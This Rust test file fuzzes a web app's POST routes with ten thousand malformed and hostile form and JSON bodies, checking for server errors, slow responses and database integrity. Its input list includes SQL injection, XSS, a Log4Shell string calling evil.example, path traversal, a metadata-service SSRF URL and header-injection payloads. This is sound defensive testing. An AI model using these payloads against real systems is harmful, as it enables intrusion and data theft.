//! Ten thousand hostile forms: every POST route, as each kind of person, with fields as its own page sends them and what
//! strangers put in. Nothing is answered 500, nothing takes long.

use crate::{
    access::{Form, fill, form, samples},
    support::{Browser, Dice, TestApp},
};
use axum::http::{Method, StatusCode};
use scraper::{Html, Selector};
use server::{
    db::Engine,
    demo,
    http::{Access, routes},
};
use std::{
    collections::{BTreeMap, BTreeSet},
    time::{Duration, Instant},
};

/// Forms that are sent, at the least.
const FORMS: usize = 10_000;
/// No answer takes longer, on a busy machine and without optimisation.
const LONGEST: Duration = Duration::from_secs(15);

/// Who sends. The first has no number: a visitor.
const SENDERS: [&str; 9] = [
    "",
    "19900000001",
    "19900000011",
    "19900000021",
    "19900000031",
    "19900000041",
    "19900000051",
    "19900000052",
    "19900000099",
];

/// What strangers put into a field.
fn hostile(dice: &mut Dice) -> String {
    const SHORT: &[&str] = &[
        "",
        " ",
        "\0",
        "a\0b",
        "\r\nSet-Cookie: linli=x",
        "'; DROP TABLE person; --",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>",
        "</textarea><svg onload=alert(1)>",
        "{{7*7}}${7*7}#{7*7}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "%00%ff%c0%ae",
        "\u{202e}gnp.exe",
        "\u{feff}\u{200b}\u{200d}",
        "👩‍👩‍👧‍👦",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "９９９",
        "१२३",
        "-1",
        "0",
        "1",
        "2",
        "00",
        "+1",
        "1.5",
        "0x10",
        "1e309",
        "NaN",
        "inf",
        "-0",
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775808",
        "99999999999999999999999999",
        "2026-13-45",
        "2026-02-30",
        "9999-12-31",
        "-9999-01-01",
        "-009999-01-01",
        "2026-11-27",
        "2026-11-26T24:00",
        "2026-11-26T08:00",
        "9999-12-31T23:59",
        "0001-01-01T00:00",
        "24:00",
        "99:99",
        "08:00",
        "true",
        "null",
        "[]",
        "{}",
        "{\"a\":{\"b\":[1,2,{}]}}",
        "=cmd|' /C calc'!A0",
        "%",
        "_",
        "\\",
        "*",
        "(",
        "[[[[[[[[",
        "lanxi/",
        "lanxi/tongyin/wutong/",
        "wutong",
        "wutong-1",
        "hall-wutong",
        "hall-wutong.20261127T1000",
        "hall-wutong.99991231T2359",
        "hall-wutong.1",
        "birth-registration",
        "street-light",
        "19900000001",
        "13800138000",
        "00000000-0000-7000-8000-000000000001",
        "save",
        "next",
        "remove",
        "![x](picture:1)",
        "[x](javascript:alert(1))",
    ];
    match dice.below(20) {
        0 => "x".repeat(20_000),
        1 => "你好".repeat(4_000),
        2 => "> ".repeat(3_000),
        3 => {
            let bytes = (0..40).map(|_| char::from_u32(u32::try_from(dice.below(0x1_1000)).expect("small")));
            bytes.map(|c| c.unwrap_or('\u{fffd}')).collect()
        }
        _ => (*dice.one_of(SHORT)).to_owned(),
    }
}

/// Names of fields that some form of ours has, for the routes whose own form no page showed.
const NAMES: &[&str] = &[
    "step",
    "act",
    "action",
    "do",
    "version",
    "seen",
    "current",
    "key",
    "form_key",
    "text",
    "reason",
    "title",
    "body",
    "code",
    "phone",
    "name",
    "slot",
    "hold",
    "page",
    "item",
    "hall",
    "date",
    "at",
    "id",
    "community",
    "category",
    "building",
    "place",
    "description",
    "longitude",
    "latitude",
    "photo",
    "stars",
    "to",
    "owner",
    "ticket",
    "to_window",
    "to_item",
    "outcome",
    "note",
    "class",
    "class2",
    "materials",
    "organisation",
    "aims",
    "review",
    "kind",
    "starts_at",
    "ends_at",
    "people",
    "answer",
    "number",
    "alt",
    "what",
    "state",
    "restore",
    "confirm",
    "next",
    "lang",
    "size",
    "address",
    "t",
    "d",
    "pick",
    "sure",
    "year",
    "file",
    "own",
    "opens",
    "closes",
    "x",
    "y",
    "width",
    "height",
    "release",
    "api_key",
    "service_code",
    "lat",
    "long",
    "phone_tail",
];

/// A form as a page has it.
#[derive(Clone, Debug)]
struct Template {
    action: String,
    fields: Vec<(String, String)>,
}

/// Forms of pages that post, with what a browser would send.
fn templates(page: &str, address: &str) -> Vec<Template> {
    let select = |text: &str| Selector::parse(text).expect("a selector");
    let (forms, inputs, options) = (select("form"), select("input, select, textarea, button"), select("option"));
    let html = Html::parse_document(page);
    let posts = |form: &scraper::ElementRef| form.attr("method").is_some_and(|m| m.eq_ignore_ascii_case("post"));
    html.select(&forms)
        .filter(posts)
        .map(|form| {
            let fields = form.select(&inputs).filter_map(|input| {
                let value = match input.value().name() {
                    "select" => input.select(&options).next().and_then(|o| o.attr("value")).unwrap_or_default().into(),
                    "textarea" => input.text().collect(),
                    _ => input.attr("value").unwrap_or_default().to_owned(),
                };
                Some((input.attr("name")?.to_owned(), value))
            });
            let action = form.attr("action").filter(|action| !action.is_empty()).unwrap_or(address);
            Template { action: action.to_owned(), fields: fields.collect() }
        })
        .filter(|template| template.action.starts_with('/'))
        .collect()
}

/// The shape of an address among the routes: `/reports/{code}`.
fn route_of(action: &str) -> Option<&'static str> {
    let path = action.split('?').next().unwrap_or_default();
    let parts: Vec<&str> = path.split('/').collect();
    let fits = |route: &str| {
        let own: Vec<&str> = route.split('/').collect();
        own.len() == parts.len() && own.iter().zip(&parts).all(|(own, part)| own.starts_with('{') || own == part)
    };
    let all = routes::all();
    let mut found: Vec<&'static str> =
        all.list().iter().filter(|route| route.method == Method::POST && fits(route.path)).map(|r| r.path).collect();
    found.sort_by_key(|path| path.matches('{').count());
    found.into_iter().next()
}

/// A hostile body for a route of the API.
fn json(dice: &mut Dice, path: &str) -> Vec<u8> {
    let base = match form(path) {
        Form::Json(text) => text.to_owned(),
        _ => r#"{"item":"worker-aid","slot":"hall-wutong.20261127T1000","items":["worker-aid"],"hall":"hall-wutong",
            "date":"2026-11-27","community":"wutong","category":"street-light","description":"x","building":"wutong-1",
            "idempotency_key":"hostile-key-0000000001","body":"x","photos":[]}"#
            .to_owned(),
    };
    let mut value: serde_json::Value = serde_json::from_str(&base).expect("JSON");
    let mut fields: Vec<String> = value.as_object().expect("an object").keys().cloned().collect();
    fields.push("reason".to_owned());
    for _ in 0..=dice.below(3) {
        let wrong = match dice.below(8) {
            0 => serde_json::Value::Null,
            1 => serde_json::json!(-1),
            2 => serde_json::json!(1e300),
            3 => serde_json::json!([hostile(dice), 1, {}]),
            4 => serde_json::json!({ "a": hostile(dice) }),
            5 => serde_json::json!(true),
            _ => serde_json::json!(hostile(dice)),
        };
        value[dice.one_of(&fields).as_str()] = wrong;
    }
    match dice.below(12) {
        0 => b"{\"item\":".repeat(2_000),
        1 => [b"[".repeat(5_000), b"]".repeat(5_000)].concat(),
        2 => b"\xff\xfe\x00".to_vec(),
        _ => value.to_string().into_bytes(),
    }
}

/// The route's form, hostile: from one of its pages, or made up.
fn fields(dice: &mut Dice, templates: &[Template]) -> Vec<(String, String)> {
    if templates.is_empty() || dice.percent(20) {
        return (0..3 + dice.below(15)).map(|_| ((*dice.one_of(NAMES)).to_owned(), hostile(dice))).collect();
    }
    let mut fields = dice.one_of(templates).fields.clone();
    if fields.is_empty() {
        return vec![("x".into(), hostile(dice))];
    }
    for _ in 0..=dice.below(4) {
        let at = usize::try_from(dice.below(fields.len() as u64)).expect("small");
        match dice.below(6) {
            0 => drop(fields.remove(at)),
            1 => fields.insert(at, (fields[at].0.clone(), hostile(dice))),
            _ => fields[at].1 = hostile(dice),
        }
        if fields.is_empty() {
            break;
        }
    }
    fields
}

/// All forms that a person's pages have, by route.
async fn collect(browser: &mut Browser, addresses: &[String]) -> BTreeMap<&'static str, Vec<Template>> {
    let mut found: BTreeMap<&'static str, Vec<Template>> = BTreeMap::new();
    for address in addresses {
        let answer = browser.get(address).await;
        if answer.status != StatusCode::OK {
            continue;
        }
        for template in templates(&answer.text(), address) {
            let Some(route) = route_of(&template.action) else { continue };
            let all = found.entry(route).or_default();
            if all.len() < 12 {
                all.push(template);
            }
        }
    }
    found
}

#[tokio::test]
async fn ten_thousand_hostile_forms_break_nothing() {
    let test = TestApp::new(Engine::Sqlite).await;
    let samples = samples(&test).await;
    demo::notices::load(&test.app, &test.loaded).await.expect("notices");
    let all = routes::all();
    let pages: Vec<String> = all
        .list()
        .iter()
        .filter(|route| route.method == Method::GET && !route.path.ends_with("/live"))
        .map(|route| fill(route.path, &samples))
        .collect();
    let posts: Vec<_> = all.list().iter().filter(|r| r.method == Method::POST && r.path != "/logout").collect();
    let each = FORMS.div_ceil(posts.len() * SENDERS.len());
    let mut dice = Dice(20_261_125);
    let (mut sent, mut from_pages, mut statuses) = (0, BTreeSet::new(), BTreeMap::<u16, usize>::new());
    let mut wrong = Vec::new();
    for (who, phone) in SENDERS.iter().enumerate() {
        let mut browser = if phone.is_empty() { test.visitor() } else { test.signed_in(phone).await };
        browser.get("/offline").await;
        let known = collect(&mut browser, &pages).await;
        from_pages.extend(known.keys().copied());
        for route in &posts {
            let own = known.get(route.path).map(Vec::as_slice).unwrap_or_default();
            for _ in 0..each {
                // The session stays, whatever the form does; limits by address are met by another test.
                let mut browser = browser.clone();
                browser.ip = format!("10.{who}.{}.{}", dice.below(250), dice.below(250));
                let address = match own.is_empty() || dice.percent(30) {
                    true => fill(route.path, &samples),
                    false => dice.one_of(own).action.clone(),
                };
                #[expect(clippy::disallowed_methods, reason = "measures")]
                let begun = Instant::now();
                let answer = if route.path.starts_with("/api/") {
                    let body = json(&mut dice, route.path);
                    browser.send(Method::POST, &address, Some("application/json"), body).await
                } else {
                    let fields = fields(&mut dice, own);
                    let fields: Vec<(&str, &str)> = fields.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
                    if dice.percent(10) {
                        let bytes = hostile(&mut dice).into_bytes();
                        let files = [("photos", "a.jpg", "image/jpeg", bytes.as_slice())];
                        browser.post_files(&address, &fields, &files).await
                    } else {
                        browser.post(&address, &fields).await
                    }
                };
                let took = begun.elapsed();
                sent += 1;
                *statuses.entry(answer.status.as_u16()).or_default() += 1;
                if answer.status.is_server_error() || took > LONGEST {
                    wrong.push(format!("{} as {phone:?}: {} after {took:?}", route.path, answer.status));
                }
            }
        }
    }
    eprintln!(
        "{sent} forms to {} routes, {} of them as their pages have them: {statuses:?}",
        posts.len(),
        from_pages.len()
    );
    assert!(wrong.is_empty(), "{} of {sent}:\n{}", wrong.len(), wrong.join("\n"));
    assert!(sent >= FORMS && from_pages.len() > 50, "{sent} forms, {} routes with forms", from_pages.len());
    assert!(posts.iter().any(|route| route.access != Access::Public));
    // What they filled in is there, and the database is whole.
    let answer = test.signed_in("19900000099").await.get("/staff/audit").await;
    assert_eq!(answer.status, StatusCode::OK);
    if test.app.db.engine() == Engine::Sqlite {
        let (verdict,): (String,) =
            sqlx::query_as("PRAGMA integrity_check").fetch_one(test.app.db.read()).await.expect("checked");
        assert_eq!(verdict, "ok");
    }
}
